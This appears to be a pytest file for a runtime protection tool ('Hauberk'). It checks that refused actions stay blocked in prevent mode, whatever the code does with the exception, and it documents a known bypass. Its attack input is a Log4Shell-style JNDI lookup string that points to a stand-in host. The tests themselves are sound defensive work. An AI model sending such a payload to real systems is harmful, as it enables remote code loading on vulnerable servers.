"""What code makes of a refusal: an act that was refused was not done, and an event that was refused is an error.

A function may catch the exception of an act and answer well: that is its own affair, what is refused is the act.
`Blocked` stands in the handler's place, where nothing that is around the handler can catch it.
"""

import pytest
from protected import oldest_and_newest, policy

pytestmark = oldest_and_newest
ATTACK = {"q": "${jndi:ldap://evil.example/a}"}
# Programs are listed: what the shell does is refused, not the shell.
LISTS = {"file": [], "process": [{"target": "**"}]}


def settings(mode):
    return {
        "HAUBERK_KERNEL": "off",
        "HAUBERK_POLICY": policy(mode=mode, allowlist=LISTS, protections={"flow": "off"}),
    }


@pytest.fixture(scope="module")
def acting(start):
    running = {mode: start("refused", settings(mode)) for mode in ("detect", "prevent")}

    def invoke(mode, event):
        place = running[mode].outside / event.get("way", "handled")
        if place.exists():
            place.rmdir()
        return running[mode].invoke(event), place.exists()

    return invoke


WAYS = (
    *("except", "suppress", "finally", "exit_stack", "retries", "other_calls", "thread", "gather"),
    *("generator", "destructor", "child"),
)


@pytest.mark.parametrize("way", WAYS)
def test_in_detect_the_act_is_done(acting, way):
    seen, made = acting("detect", {"way": way})
    assert (seen.value, made) == ("swallowed", True)


@pytest.mark.parametrize("way", WAYS)
def test_an_act_that_was_refused_was_not_done_whatever_the_code_makes_of_it(acting, way):
    seen, made = acting("prevent", {"way": way})
    assert (seen.value, made) == ("swallowed", False)
    found = {(one["detector"], one["verdict"]) for one in seen.detections}
    assert ("unlisted-file", "block") in found


def test_in_detect_an_event_is_handled(acting):
    seen, made = acting("detect", ATTACK)
    assert (seen.value, made) == ("swallowed", True)
    assert seen.detections


def test_an_event_that_was_refused_is_an_error_whatever_the_handler_catches(acting):
    seen, made = acting("prevent", ATTACK)
    assert (seen.error, made) == ("Blocked", False)
    assert "blocked by Hauberk: " in seen.message


def test_what_catches_in_front_of_the_gate_makes_no_success_of_it(start):
    running = start("refused", settings("prevent"), environment={"FRONT": "yes"})
    for _ in range(2):
        seen = running.invoke(ATTACK)
        assert seen.error == "Blocked"
        assert not (running.outside / "handled").exists()
    assert running.invoke({"way": "except"}).value == "swallowed"


def test_who_speaks_as_the_runtime_is_a_known_miss(start):
    """Code in the process may tell the Runtime API what it likes; the handler still did not run."""
    running = start("refused", settings("prevent"), environment={"TELLS": "yes"})
    seen = running.invoke(ATTACK)
    assert seen.value == "swallowed"
    assert not (running.outside / "handled").exists()
    assert [one["verdict"] for one in seen.detections] == ["block"]
